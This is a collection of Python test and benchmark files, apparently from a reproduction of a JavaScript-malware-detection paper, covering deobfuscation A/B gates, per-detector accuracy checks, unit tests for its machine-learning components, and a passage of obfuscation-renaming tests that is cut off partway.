        for source, label in pairs:
            try:
                variants.append(obfuscator.obfuscate(source))
                labels.append(label)
            except Exception:
                failures += 1
        off = plain.scan(variants)
        on = passed.scan(variants)
        normalized = sum(1 for r in on.results if r.normalization is not None)
        techniques[name] = {
            "n_variants": len(variants),
            "obfuscate_failures": failures,
            "normalized": normalized,
            "rate_off": detection_rate(off, labels),
            "rate_on": detection_rate(on, labels),
        }
        techniques[name]["delta"] = techniques[name]["rate_on"] - techniques[name]["rate_off"]
    return techniques


@pytest.mark.table
def test_deobfuscate_ab_gate(benchmark, detector, split):
    techniques = benchmark.pedantic(
        ab_comparison, args=(detector, split), rounds=1, iterations=1
    )

    print("\nDeobfuscation pre-pass A/B — detection rate per technique")
    for name, row in sorted(techniques.items()):
        print(f"  {name:24s} off={row['rate_off']:.3f} on={row['rate_on']:.3f} "
              f"delta={row['delta']:+.3f}  (normalized {row['normalized']}/{row['n_variants']})")

    record = {
        "bench": "deobfuscate_ab",
        "source": "benchmarks/test_deobfuscate_bench.py::test_deobfuscate_ab_gate",
        "params": {
            **bench_params(),
            "obfuscator_seed": OBFUSCATOR_SEED,
            "n_test_scripts": len(split.test.sources),
        },
        "techniques": {
            name: {k: (round(v, 4) if isinstance(v, float) else v) for k, v in row.items()}
            for name, row in techniques.items()
        },
    }
    (REPO_ROOT / "BENCH_deobfuscate_ab.json").write_text(json.dumps(record, indent=2) + "\n")

    # Gate 1: the pass never hurts, on any technique.
    for name, row in techniques.items():
        assert row["rate_on"] >= row["rate_off"], (
            f"{name}: pass-on rate {row['rate_on']:.3f} < pass-off {row['rate_off']:.3f}"
        )

    # Gate 2: it strictly helps on at least two techniques.
    strict_wins = [name for name, row in techniques.items() if row["delta"] > 0]
    assert len(strict_wins) >= 2, f"strict wins: {strict_wins}"

    # Gate 3: the encoding-heavy techniques are the winners — string
    # arrays + flattening (javascript-obfuscator) and charcode/unescape
    # packing (jsobfu) are what the normalizer targets.
    assert "javascript-obfuscator" in strict_wins
    assert "jsobfu" in strict_wins

    # Gate 4: rename-only obfuscation (jshaman) cannot move verdicts in
    # either direction — byte-identity for scripts the pass can't improve.
    assert techniques["jshaman"]["delta"] == 0.0
