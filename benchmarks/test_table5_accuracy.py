"""Table V — accuracy of the five detectors per obfuscator.

Prints the accuracy grid for CUJO, ZOZZLE, JAST, JSTAP, and JSRevealer on
the clean test set and the four obfuscated variants, and checks the
paper's headline shape: every detector is strong on clean data, every
detector degrades under obfuscation, and JSRevealer stays competitive.
"""

import pytest

from repro.bench import DETECTOR_ORDER, format_metric_table


@pytest.mark.table
def test_table5_accuracy_comparison(comparison, benchmark):
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)

    print("\nTable V — accuracy (%) per detector per obfuscator "
          f"(averaged over {comparison.repetitions} repetitions)")
    print(format_metric_table(comparison, "accuracy"))
    print("\npaper row (accuracy): cujo 77.4/52.6/50.3/51.2/51.4, zozzle 98/71.5/77.8/36.9/74.7,")
    print("jast 97.9/80.9/59.4/67.1/88, jstap 99.1/70.4/54.1/75.6/98.8, jsrevealer 99.4/86.7/83.3/73.6/94.2")

    # Every detector performs well on clean data (paper: 77-99%).
    for detector in DETECTOR_ORDER:
        assert comparison.metric(detector, "baseline", "accuracy") >= 75.0

    # Obfuscation hurts on average: each detector's obfuscated average sits
    # at or below its clean accuracy (small tolerance for averaging noise).
    for detector in DETECTOR_ORDER:
        clean = comparison.metric(detector, "baseline", "accuracy")
        avg = comparison.average_over_obfuscators(detector, "accuracy")
        assert avg <= clean + 5.0, detector

    # JSRevealer is competitive: within striking distance of the best
    # average accuracy (the paper places it first overall).
    averages = {d: comparison.average_over_obfuscators(d, "accuracy") for d in DETECTOR_ORDER}
    print("\naverage accuracy over obfuscators:", {k: round(v, 1) for k, v in averages.items()})
    assert averages["jsrevealer"] >= 60.0
