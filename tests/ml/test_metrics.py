"""Unit and property tests for classification metrics."""

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.ml import (
    accuracy,
    confusion_counts,
    detection_report,
    f1_score,
    false_negative_rate,
    false_positive_rate,
    precision,
    recall,
)


class TestConfusion:
    def test_all_cells(self):
        y_true = [1, 1, 0, 0, 1, 0]
        y_pred = [1, 0, 1, 0, 1, 0]
        assert confusion_counts(y_true, y_pred) == (2, 1, 2, 1)

    def test_shape_mismatch_raises(self):
        with pytest.raises(ValueError):
            confusion_counts([1, 0], [1])

    def test_perfect_prediction(self):
        y = [0, 1, 0, 1]
        assert confusion_counts(y, y) == (2, 0, 2, 0)


class TestMetricValues:
    def test_accuracy(self):
        assert accuracy([1, 1, 0, 0], [1, 0, 0, 0]) == 0.75

    def test_precision_recall(self):
        y_true = [1, 1, 1, 0]
        y_pred = [1, 0, 1, 1]
        assert precision(y_true, y_pred) == pytest.approx(2 / 3)
        assert recall(y_true, y_pred) == pytest.approx(2 / 3)

    def test_f1_harmonic_mean(self):
        y_true = [1, 1, 0, 0]
        y_pred = [1, 0, 1, 0]
        p, r = precision(y_true, y_pred), recall(y_true, y_pred)
        assert f1_score(y_true, y_pred) == pytest.approx(2 * p * r / (p + r))

    def test_fpr_fnr(self):
        y_true = [0, 0, 0, 0, 1, 1]
        y_pred = [1, 0, 0, 0, 0, 1]
        assert false_positive_rate(y_true, y_pred) == pytest.approx(0.25)
        assert false_negative_rate(y_true, y_pred) == pytest.approx(0.5)

    def test_degenerate_no_positives(self):
        assert recall([0, 0], [0, 0]) == 0.0
        assert f1_score([0, 0], [0, 0]) == 0.0
        assert false_negative_rate([0, 0], [0, 0]) == 0.0

    def test_report_percentages(self):
        report = detection_report([1, 0], [1, 0])
        assert report.accuracy == 100.0
        assert report.f1 == 100.0
        assert report.fpr == 0.0
        assert report.fnr == 0.0


@given(st.lists(st.tuples(st.integers(0, 1), st.integers(0, 1)), min_size=1, max_size=200))
def test_metric_identities(pairs):
    """Cross-metric identities hold for arbitrary binary label pairs."""
    y_true = np.array([a for a, _ in pairs])
    y_pred = np.array([b for _, b in pairs])
    tp, fp, tn, fn = confusion_counts(y_true, y_pred)
    assert tp + fp + tn + fn == len(pairs)
    assert accuracy(y_true, y_pred) == pytest.approx((tp + tn) / len(pairs))
    if tp + fn:
        assert recall(y_true, y_pred) == pytest.approx(1.0 - false_negative_rate(y_true, y_pred))
    assert 0.0 <= f1_score(y_true, y_pred) <= 1.0


@given(st.lists(st.integers(0, 1), min_size=1, max_size=100))
def test_perfect_prediction_maximizes_everything(labels):
    y = np.array(labels)
    assert accuracy(y, y) == 1.0
    assert false_positive_rate(y, y) == 0.0
    assert false_negative_rate(y, y) == 0.0
