"""Unit tests for the CART decision tree and the random forest."""

import numpy as np
import pytest

from repro.ml import DecisionTreeClassifier, RandomForestClassifier, accuracy


def _blobs(rng, n=120, separation=4.0):
    """Two separable Gaussian blobs in 2-D."""
    a = rng.normal(0.0, 1.0, size=(n // 2, 2))
    b = rng.normal(separation, 1.0, size=(n // 2, 2))
    X = np.vstack([a, b])
    y = np.array([0] * (n // 2) + [1] * (n // 2))
    return X, y


def _xor(rng, n=200):
    X = rng.uniform(-1.0, 1.0, size=(n, 2))
    y = ((X[:, 0] > 0) ^ (X[:, 1] > 0)).astype(int)
    return X, y


class TestDecisionTree:
    def test_separable_data_perfectly_fit(self):
        rng = np.random.default_rng(0)
        X, y = _blobs(rng)
        tree = DecisionTreeClassifier(rng=np.random.default_rng(1)).fit(X, y)
        assert accuracy(y, tree.predict(X)) == 1.0

    def test_xor_needs_depth_two(self):
        rng = np.random.default_rng(0)
        X, y = _xor(rng)
        shallow = DecisionTreeClassifier(max_depth=1, rng=np.random.default_rng(1)).fit(X, y)
        deep = DecisionTreeClassifier(max_depth=4, rng=np.random.default_rng(1)).fit(X, y)
        assert accuracy(y, deep.predict(X)) > accuracy(y, shallow.predict(X))
        assert accuracy(y, deep.predict(X)) > 0.95

    def test_max_depth_respected(self):
        rng = np.random.default_rng(2)
        X = rng.normal(size=(200, 5))
        y = (X[:, 0] + X[:, 1] * X[:, 2] > 0).astype(int)
        tree = DecisionTreeClassifier(max_depth=3, rng=np.random.default_rng(1)).fit(X, y)
        assert tree.depth() <= 3

    def test_min_samples_leaf(self):
        rng = np.random.default_rng(3)
        X, y = _blobs(rng, n=40)
        tree = DecisionTreeClassifier(min_samples_leaf=10, rng=np.random.default_rng(1)).fit(X, y)
        assert tree.node_count() < 15

    def test_pure_node_is_leaf(self):
        X = np.array([[0.0], [1.0], [2.0]])
        y = np.array([1, 1, 1])
        tree = DecisionTreeClassifier().fit(X, y)
        assert tree.node_count() == 1

    def test_probability_output_sums_to_one(self):
        rng = np.random.default_rng(4)
        X, y = _blobs(rng)
        tree = DecisionTreeClassifier(max_depth=2, rng=np.random.default_rng(1)).fit(X, y)
        proba = tree.predict_proba(X)
        assert np.allclose(proba.sum(axis=1), 1.0)

    def test_feature_importances_point_to_informative_feature(self):
        rng = np.random.default_rng(5)
        n = 300
        informative = rng.normal(size=n)
        noise = rng.normal(size=(n, 3))
        X = np.column_stack([noise[:, 0], informative, noise[:, 1], noise[:, 2]])
        y = (informative > 0).astype(int)
        tree = DecisionTreeClassifier(rng=np.random.default_rng(1)).fit(X, y)
        assert int(np.argmax(tree.feature_importances_)) == 1
        assert tree.feature_importances_.sum() == pytest.approx(1.0)

    def test_sample_weights_bias_predictions(self):
        X = np.array([[0.0], [0.1], [1.0], [1.1]])
        y = np.array([0, 0, 1, 1])
        # Overweight class-1 rows heavily; a depth-0 stump forced by
        # max_depth must predict the heavier class.
        tree = DecisionTreeClassifier(max_depth=0).fit(X, y, sample_weight=[1, 1, 10, 10])
        assert tree.predict([[0.05]])[0] == 1

    def test_empty_training_set_rejected(self):
        with pytest.raises(ValueError):
            DecisionTreeClassifier().fit(np.empty((0, 2)), np.empty(0))

    def test_multiclass(self):
        rng = np.random.default_rng(6)
        X = np.vstack([rng.normal(c * 5, 0.5, size=(30, 2)) for c in range(3)])
        y = np.repeat([0, 1, 2], 30)
        tree = DecisionTreeClassifier(rng=np.random.default_rng(1)).fit(X, y)
        assert accuracy(y, tree.predict(X)) == 1.0


class TestRandomForest:
    def test_forest_fits_blobs(self):
        rng = np.random.default_rng(0)
        X, y = _blobs(rng)
        forest = RandomForestClassifier(n_estimators=15, random_state=0).fit(X, y)
        assert accuracy(y, forest.predict(X)) >= 0.98

    def test_forest_beats_stump_on_xor(self):
        rng = np.random.default_rng(1)
        X, y = _xor(rng, n=400)
        forest = RandomForestClassifier(n_estimators=25, random_state=0).fit(X, y)
        assert accuracy(y, forest.predict(X)) > 0.9

    def test_deterministic_given_seed(self):
        rng = np.random.default_rng(2)
        X, y = _blobs(rng)
        p1 = RandomForestClassifier(n_estimators=5, random_state=42).fit(X, y).predict(X)
        p2 = RandomForestClassifier(n_estimators=5, random_state=42).fit(X, y).predict(X)
        assert np.array_equal(p1, p2)

    def test_feature_importances_normalized(self):
        rng = np.random.default_rng(3)
        X, y = _blobs(rng)
        forest = RandomForestClassifier(n_estimators=10, random_state=0).fit(X, y)
        assert forest.feature_importances_.sum() == pytest.approx(1.0)

    def test_predict_proba_shape_and_sum(self):
        rng = np.random.default_rng(4)
        X, y = _blobs(rng)
        forest = RandomForestClassifier(n_estimators=8, random_state=0).fit(X, y)
        proba = forest.predict_proba(X[:10])
        assert proba.shape == (10, 2)
        assert np.allclose(proba.sum(axis=1), 1.0)

    def test_generalization_on_holdout(self):
        rng = np.random.default_rng(5)
        X, y = _blobs(rng, n=400)
        X_test, y_test = _blobs(np.random.default_rng(99), n=100)
        forest = RandomForestClassifier(n_estimators=20, random_state=0).fit(X, y)
        assert accuracy(y_test, forest.predict(X_test)) >= 0.95

    def test_invalid_n_estimators(self):
        with pytest.raises(ValueError):
            RandomForestClassifier(n_estimators=0)

    def test_unfit_predict_raises(self):
        with pytest.raises(RuntimeError):
            RandomForestClassifier().predict([[0.0, 1.0]])
