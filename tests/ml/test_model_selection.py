"""Unit tests for split utilities (train_test_split extras, stratified_sample)."""

import numpy as np
import pytest

from repro.ml import stratified_sample


class TestStratifiedSample:
    def test_exact_class_counts(self):
        rng = np.random.default_rng(0)
        y = np.array([0] * 60 + [1] * 40)
        indices = stratified_sample(y, {0: 10, 1: 15}, rng)
        assert len(indices) == 25
        assert int(np.sum(y[indices] == 0)) == 10
        assert int(np.sum(y[indices] == 1)) == 15

    def test_no_replacement(self):
        rng = np.random.default_rng(1)
        y = np.array([0, 0, 0, 1, 1, 1])
        indices = stratified_sample(y, {0: 3, 1: 3}, rng)
        assert len(set(indices.tolist())) == 6

    def test_insufficient_class_raises(self):
        rng = np.random.default_rng(2)
        with pytest.raises(ValueError):
            stratified_sample(np.array([0, 1]), {0: 5, 1: 1}, rng)

    def test_shuffled_output(self):
        rng = np.random.default_rng(3)
        y = np.array([0] * 50 + [1] * 50)
        indices = stratified_sample(y, {0: 25, 1: 25}, rng)
        labels = y[indices]
        # Not all class-0 first: shuffling interleaves labels.
        assert len(set(labels[:10].tolist())) == 2

    def test_deterministic_given_rng(self):
        y = np.array([0] * 20 + [1] * 20)
        a = stratified_sample(y, {0: 5, 1: 5}, np.random.default_rng(9))
        b = stratified_sample(y, {0: 5, 1: 5}, np.random.default_rng(9))
        assert np.array_equal(a, b)
