"""Unit and property tests for K-Means and Bisecting K-Means."""

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.ml import BisectingKMeans, KMeans, elbow_sse


def _three_blobs(rng, per=40):
    centers = np.array([[0.0, 0.0], [8.0, 0.0], [0.0, 8.0]])
    points = [rng.normal(c, 0.5, size=(per, 2)) for c in centers]
    return np.vstack(points)


class TestKMeans:
    def test_recovers_three_blobs(self):
        X = _three_blobs(np.random.default_rng(0))
        model = KMeans(n_clusters=3, random_state=0).fit(X)
        # Each blob ends up in one cluster: the per-blob label is constant.
        labels = model.labels_.reshape(3, -1)
        for row in labels:
            assert len(np.unique(row)) == 1
        assert len(np.unique(labels[:, 0])) == 3

    def test_inertia_decreases_with_k(self):
        X = _three_blobs(np.random.default_rng(1))
        sse = elbow_sse(X, [1, 2, 3, 5], random_state=0, bisecting=False)
        assert all(a >= b - 1e-9 for a, b in zip(sse, sse[1:]))

    def test_predict_assigns_nearest_center(self):
        X = _three_blobs(np.random.default_rng(2))
        model = KMeans(n_clusters=3, random_state=0).fit(X)
        point = np.array([[8.0, 0.0]])
        cluster = model.predict(point)[0]
        center = model.cluster_centers_[cluster]
        distances = np.linalg.norm(model.cluster_centers_ - point, axis=1)
        assert np.linalg.norm(center - point) == pytest.approx(distances.min())

    def test_too_few_samples_rejected(self):
        with pytest.raises(ValueError):
            KMeans(n_clusters=5).fit(np.zeros((3, 2)))

    def test_deterministic_given_seed(self):
        X = _three_blobs(np.random.default_rng(3))
        l1 = KMeans(n_clusters=3, random_state=7).fit_predict(X)
        l2 = KMeans(n_clusters=3, random_state=7).fit_predict(X)
        assert np.array_equal(l1, l2)

    def test_duplicate_points_handled(self):
        X = np.ones((10, 3))
        model = KMeans(n_clusters=2, random_state=0).fit(X)
        assert model.inertia_ == pytest.approx(0.0)


class TestBisectingKMeans:
    def test_recovers_three_blobs(self):
        X = _three_blobs(np.random.default_rng(0))
        model = BisectingKMeans(n_clusters=3, random_state=0).fit(X)
        labels = model.labels_.reshape(3, -1)
        for row in labels:
            assert len(np.unique(row)) == 1

    def test_produces_requested_cluster_count(self):
        X = np.random.default_rng(1).normal(size=(60, 4))
        model = BisectingKMeans(n_clusters=6, random_state=0).fit(X)
        assert len(model.cluster_centers_) == 6
        assert set(model.labels_) == set(range(6))

    def test_inertia_matches_assignment(self):
        X = _three_blobs(np.random.default_rng(2))
        model = BisectingKMeans(n_clusters=3, random_state=0).fit(X)
        manual = sum(
            np.sum((X[model.labels_ == k] - center) ** 2)
            for k, center in enumerate(model.cluster_centers_)
        )
        assert model.inertia_ == pytest.approx(manual)

    def test_elbow_curve_decreasing(self):
        X = _three_blobs(np.random.default_rng(3))
        sse = elbow_sse(X, range(1, 7), random_state=0, bisecting=True)
        assert all(a >= b - 1e-6 for a, b in zip(sse, sse[1:]))

    def test_predict_consistent_with_labels(self):
        X = _three_blobs(np.random.default_rng(4))
        model = BisectingKMeans(n_clusters=3, random_state=0).fit(X)
        assert np.array_equal(model.predict(X), model.labels_)


@settings(max_examples=25, deadline=None)
@given(
    st.integers(2, 5),
    st.integers(0, 1000),
)
def test_kmeans_partition_invariants(k, seed):
    """Labels form a partition; centers are member means."""
    rng = np.random.default_rng(seed)
    X = rng.normal(size=(k * 10, 3))
    model = KMeans(n_clusters=k, random_state=seed).fit(X)
    assert model.labels_.shape == (len(X),)
    assert model.labels_.min() >= 0 and model.labels_.max() < k
    for cluster in range(k):
        members = X[model.labels_ == cluster]
        if len(members):
            assert np.allclose(model.cluster_centers_[cluster], members.mean(axis=0), atol=1e-6)
