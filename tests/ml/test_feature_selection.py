"""Unit tests for chi-squared feature selection."""

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.ml.feature_selection import chi2_scores, select_top_k


class TestChi2:
    def test_informative_feature_scores_highest(self):
        rng = np.random.default_rng(0)
        n = 400
        y = rng.integers(0, 2, size=n)
        informative = (y == 1) & (rng.random(n) < 0.9) | (y == 0) & (rng.random(n) < 0.1)
        noise = rng.random((n, 3)) < 0.5
        X = np.column_stack([noise[:, 0], informative, noise[:, 1], noise[:, 2]]).astype(float)
        scores = chi2_scores(X, y)
        assert int(np.argmax(scores)) == 1

    def test_perfectly_correlated_feature(self):
        y = np.array([0, 0, 1, 1])
        X = np.array([[0.0], [0.0], [1.0], [1.0]])
        assert chi2_scores(X, y)[0] == pytest.approx(4.0)  # n * 1

    def test_constant_feature_scores_zero(self):
        y = np.array([0, 1, 0, 1])
        X = np.ones((4, 1))
        assert chi2_scores(X, y)[0] == 0.0

    def test_independent_feature_scores_low(self):
        rng = np.random.default_rng(1)
        n = 2000
        y = rng.integers(0, 2, size=n)
        X = (rng.random((n, 1)) < 0.5).astype(float)
        assert chi2_scores(X, y)[0] < 8.0  # ~chi2_1 tail

    def test_empty_input_rejected(self):
        with pytest.raises(ValueError):
            chi2_scores(np.zeros((0, 2)), np.zeros(0))

    def test_select_top_k(self):
        y = np.array([0, 0, 1, 1] * 10)
        strong = np.tile([0.0, 0.0, 1.0, 1.0], 10)
        weak = np.tile([0.0, 1.0, 0.0, 1.0], 10)
        X = np.column_stack([weak, strong, weak])
        top = select_top_k(X, y, 1)
        assert list(top) == [1]

    def test_select_caps_at_feature_count(self):
        X = np.random.default_rng(2).random((20, 3))
        y = np.random.default_rng(3).integers(0, 2, size=20)
        assert len(select_top_k(X, y, 100)) == 3


@settings(max_examples=40, deadline=None)
@given(st.integers(2, 60), st.integers(0, 10_000))
def test_scores_are_finite_and_nonnegative(n, seed):
    rng = np.random.default_rng(seed)
    X = (rng.random((n, 4)) < rng.random(4)).astype(float)
    y = rng.integers(0, 2, size=n)
    scores = chi2_scores(X, y)
    assert np.all(np.isfinite(scores))
    assert np.all(scores >= 0.0)
    assert np.all(scores <= n + 1e-9)  # chi2 of a 2x2 table is bounded by n
