"""Unit and property tests for preprocessing utilities."""

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.ml import CountVectorizer, HashingVectorizer, MinMaxScaler, ngrams, train_test_split


class TestMinMaxScaler:
    def test_scales_to_unit_interval(self):
        X = np.array([[1.0, 10.0], [2.0, 20.0], [3.0, 30.0]])
        scaled = MinMaxScaler().fit_transform(X)
        assert scaled.min() == 0.0 and scaled.max() == 1.0

    def test_constant_column_maps_to_zero(self):
        X = np.array([[5.0], [5.0], [5.0]])
        assert np.all(MinMaxScaler().fit_transform(X) == 0.0)

    def test_unseen_data_clipped(self):
        scaler = MinMaxScaler().fit(np.array([[0.0], [10.0]]))
        out = scaler.transform(np.array([[-5.0], [15.0]]))
        assert out.min() >= 0.0 and out.max() <= 1.0

    def test_unfit_raises(self):
        with pytest.raises(RuntimeError):
            MinMaxScaler().transform(np.zeros((1, 1)))

    @settings(max_examples=50, deadline=None)
    @given(st.lists(st.lists(st.floats(-1e6, 1e6), min_size=3, max_size=3), min_size=2, max_size=30))
    def test_output_always_in_unit_interval(self, rows):
        X = np.array(rows)
        out = MinMaxScaler().fit_transform(X)
        assert np.all(out >= 0.0) and np.all(out <= 1.0)


class TestVectorizers:
    def test_count_vectorizer_counts(self):
        docs = [["a", "b", "a"], ["b", "c"]]
        vec = CountVectorizer()
        X = vec.fit_transform(docs)
        a_col = vec.vocabulary_["a"]
        assert X[0, a_col] == 2.0
        assert X[1, a_col] == 0.0

    def test_count_vectorizer_max_features(self):
        docs = [["x"] * 5 + ["y"] * 3 + ["z"]]
        vec = CountVectorizer(max_features=2)
        vec.fit(docs)
        assert set(vec.vocabulary_) == {"x", "y"}

    def test_count_vectorizer_binary(self):
        docs = [["t", "t", "t"]]
        X = CountVectorizer(binary=True).fit_transform(docs)
        assert X.max() == 1.0

    def test_count_vectorizer_ignores_unseen(self):
        vec = CountVectorizer().fit([["a"]])
        X = vec.transform([["b", "a"]])
        assert X.sum() == 1.0

    def test_hashing_vectorizer_width(self):
        X = HashingVectorizer(n_features=64).transform([["tok1", "tok2"]])
        assert X.shape == (1, 64)

    def test_hashing_vectorizer_deterministic(self):
        docs = [["alpha", "beta", "alpha"]]
        v = HashingVectorizer(n_features=128)
        assert np.array_equal(v.transform(docs), v.transform(docs))

    def test_hashing_vectorizer_stable_across_processes(self):
        """blake2-based hashing: exact values are process-independent."""
        X = HashingVectorizer(n_features=8).transform([["alpha", "beta", "alpha"]])
        import hashlib

        expected = np.zeros(8)
        for token in ("alpha", "beta", "alpha"):
            digest = hashlib.blake2s(token.encode(), digest_size=8).digest()
            h = int.from_bytes(digest, "little")
            expected[h % 8] += 1.0 if (h >> 60) & 1 else -1.0
        assert np.array_equal(X[0], expected)

    def test_hashing_vectorizer_rejects_bad_width(self):
        with pytest.raises(ValueError):
            HashingVectorizer(n_features=0)


class TestNgrams:
    def test_bigrams(self):
        assert ngrams(["a", "b", "c"], 2) == ["a\x1fb", "b\x1fc"]

    def test_sequence_shorter_than_n(self):
        assert ngrams(["a"], 3) == []

    def test_unigrams_identity(self):
        assert ngrams(["x", "y"], 1) == ["x", "y"]

    def test_invalid_n(self):
        with pytest.raises(ValueError):
            ngrams(["a"], 0)

    @given(st.lists(st.text(alphabet="ab", max_size=3), max_size=20), st.integers(1, 5))
    def test_ngram_count_formula(self, tokens, n):
        result = ngrams(tokens, n)
        assert len(result) == max(0, len(tokens) - n + 1)


class TestTrainTestSplit:
    def test_sizes(self):
        X = np.arange(100).reshape(-1, 1)
        y = np.arange(100) % 2
        X_tr, X_te, y_tr, y_te = train_test_split(X, y, test_size=0.25, rng=np.random.default_rng(0))
        assert len(X_tr) == 75 and len(X_te) == 25
        assert len(y_tr) == 75 and len(y_te) == 25

    def test_partition_is_disjoint_and_complete(self):
        X = np.arange(50).reshape(-1, 1)
        y = np.zeros(50)
        X_tr, X_te, _, _ = train_test_split(X, y, test_size=0.2, rng=np.random.default_rng(1))
        combined = sorted(np.concatenate([X_tr.ravel(), X_te.ravel()]).tolist())
        assert combined == list(range(50))

    def test_list_inputs_supported(self):
        X = [f"sample{i}" for i in range(10)]
        y = [0, 1] * 5
        X_tr, X_te, _, _ = train_test_split(X, y, test_size=0.3, rng=np.random.default_rng(2))
        assert isinstance(X_tr, list)
        assert len(X_tr) + len(X_te) == 10

    def test_invalid_test_size(self):
        with pytest.raises(ValueError):
            train_test_split([1], [0], test_size=1.5)

    def test_empty_dataset_rejected(self):
        with pytest.raises(ValueError):
            train_test_split([], [], test_size=0.5)
