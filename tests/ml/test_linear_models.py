"""Unit tests for logistic regression, linear SVM, and naive Bayes."""

import numpy as np
import pytest

from repro.ml import BernoulliNB, GaussianNB, LinearSVC, LogisticRegression, accuracy


def _blobs(rng, n=200, separation=3.0):
    a = rng.normal(0.0, 1.0, size=(n // 2, 2))
    b = rng.normal(separation, 1.0, size=(n // 2, 2))
    return np.vstack([a, b]), np.array([0] * (n // 2) + [1] * (n // 2))


class TestLogisticRegression:
    def test_separable(self):
        X, y = _blobs(np.random.default_rng(0))
        model = LogisticRegression(n_iter=800).fit(X, y)
        assert accuracy(y, model.predict(X)) >= 0.97

    def test_probabilities_in_range(self):
        X, y = _blobs(np.random.default_rng(1))
        model = LogisticRegression().fit(X, y)
        proba = model.predict_proba(X)
        assert np.all(proba >= 0) and np.all(proba <= 1)
        assert np.allclose(proba.sum(axis=1), 1.0)

    def test_decision_boundary_direction(self):
        X, y = _blobs(np.random.default_rng(2))
        model = LogisticRegression(n_iter=500).fit(X, y)
        # class 1 sits at larger coordinates => positive weights
        assert model.coef_[0] > 0 and model.coef_[1] > 0

    def test_nonbinary_labels_rejected(self):
        with pytest.raises(ValueError):
            LogisticRegression().fit(np.zeros((3, 2)), [0, 1, 2])

    def test_string_class_labels(self):
        X, y = _blobs(np.random.default_rng(3))
        labels = np.where(y == 1, "mal", "ben")
        model = LogisticRegression(n_iter=500).fit(X, labels)
        predicted = model.predict(X)
        assert set(predicted) <= {"mal", "ben"}
        assert accuracy(labels == "mal", predicted == "mal") >= 0.95


class TestLinearSVC:
    def test_separable(self):
        X, y = _blobs(np.random.default_rng(0))
        model = LinearSVC(n_iter=30, random_state=0).fit(X, y)
        assert accuracy(y, model.predict(X)) >= 0.97

    def test_margin_sign_matches_labels(self):
        X, y = _blobs(np.random.default_rng(1))
        model = LinearSVC(n_iter=30, random_state=0).fit(X, y)
        scores = model.decision_function(X)
        assert accuracy(y, (scores >= 0).astype(int)) >= 0.97

    def test_invalid_C(self):
        with pytest.raises(ValueError):
            LinearSVC(C=0.0)

    def test_proba_monotone_in_margin(self):
        X, y = _blobs(np.random.default_rng(2))
        model = LinearSVC(n_iter=20, random_state=0).fit(X, y)
        scores = model.decision_function(X)
        proba = model.predict_proba(X)[:, 1]
        order = np.argsort(scores)
        assert np.all(np.diff(proba[order]) >= -1e-12)


class TestGaussianNB:
    def test_separable(self):
        X, y = _blobs(np.random.default_rng(0))
        model = GaussianNB().fit(X, y)
        assert accuracy(y, model.predict(X)) >= 0.97

    def test_class_priors_learned(self):
        rng = np.random.default_rng(1)
        X = rng.normal(size=(100, 2))
        y = np.array([0] * 80 + [1] * 20)
        model = GaussianNB().fit(X, y)
        assert model.class_prior_[0] == pytest.approx(0.8)

    def test_proba_normalized(self):
        X, y = _blobs(np.random.default_rng(2))
        model = GaussianNB().fit(X, y)
        assert np.allclose(model.predict_proba(X).sum(axis=1), 1.0)


class TestBernoulliNB:
    def test_binary_features(self):
        rng = np.random.default_rng(0)
        n = 300
        # Feature 0 strongly indicates class 1; feature 1 is noise.
        y = rng.integers(0, 2, size=n)
        f0 = np.where(y == 1, rng.random(n) < 0.9, rng.random(n) < 0.1)
        f1 = rng.random(n) < 0.5
        X = np.column_stack([f0, f1]).astype(float)
        model = BernoulliNB().fit(X, y)
        assert accuracy(y, model.predict(X)) >= 0.85

    def test_binarize_threshold(self):
        X = np.array([[0.2], [0.8]])
        y = np.array([0, 1])
        model = BernoulliNB(binarize=0.5).fit(X, y)
        assert model.predict([[0.9]])[0] == 1
        assert model.predict([[0.1]])[0] == 0

    def test_laplace_smoothing_avoids_zero_probability(self):
        X = np.array([[1.0], [1.0], [0.0]])
        y = np.array([1, 1, 0])
        model = BernoulliNB(alpha=1.0).fit(X, y)
        assert np.isfinite(model._joint_log_likelihood([[1.0], [0.0]])).all()
