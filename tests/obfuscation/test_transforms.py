"""Unit tests for the shared obfuscation toolkit."""

import numpy as np
import pytest

from repro.jsparser import find_all, parse
from repro.obfuscation import NameGenerator, collect_string_literals, rename_variables


class TestNameGenerator:
    def test_fresh_names_unique(self):
        namer = NameGenerator(style="hex", rng=np.random.default_rng(0))
        names = {namer.fresh() for _ in range(200)}
        assert len(names) == 200

    def test_hex_style_shape(self):
        namer = NameGenerator(style="hex", rng=np.random.default_rng(1))
        assert namer.fresh().startswith("_0x")

    def test_gibberish_style_is_identifier(self):
        namer = NameGenerator(style="gibberish", rng=np.random.default_rng(2))
        name = namer.fresh()
        assert name[0] in "_$" or name[0].isalpha()

    def test_reserved_names_never_produced(self):
        namer = NameGenerator(style="short", rng=np.random.default_rng(3))
        namer.reserve(["v1", "v2"])
        assert namer.fresh() == "v3"

    def test_forbidden_globals_never_produced(self):
        namer = NameGenerator(style="short", rng=np.random.default_rng(4))
        for _ in range(100):
            assert namer.fresh() not in ("eval", "window", "document")

    def test_invalid_style(self):
        with pytest.raises(ValueError):
            NameGenerator(style="emoji")


class TestRenameVariables:
    def rename(self, source):
        program = parse(source)
        mapping = rename_variables(program, NameGenerator(style="short", rng=np.random.default_rng(0)))
        return program, mapping

    def test_declaration_and_references_renamed_together(self):
        program, mapping = self.rename("var count = 1; use(count); count = 2;")
        new = mapping["count"]
        names = [i.name for i in find_all(program, "Identifier")]
        assert names.count(new) == 3
        assert "count" not in names

    def test_globals_untouched(self):
        program, _ = self.rename("document.write(navigator.userAgent);")
        names = {i.name for i in find_all(program, "Identifier")}
        assert {"document", "navigator"} <= names

    def test_member_properties_untouched(self):
        program, _ = self.rename("var o = {}; o.write = 1; o.write;")
        names = [i.name for i in find_all(program, "Identifier")]
        assert names.count("write") == 2

    def test_shadowed_bindings_get_distinct_names(self):
        source = "var x = 1; function f(x) { return x; } use(x);"
        program, _ = self.rename(source)
        # The param x and the global x must not collapse to one name:
        # the function's return must reference the param's new name.
        fn = find_all(program, "FunctionDeclaration")[0]
        param_name = fn.params[0].name
        ret = find_all(fn, "ReturnStatement")[0]
        assert ret.argument.name == param_name
        global_decl = program.body[0].declarations[0]
        assert global_decl.id.name != param_name

    def test_function_names_renamed(self):
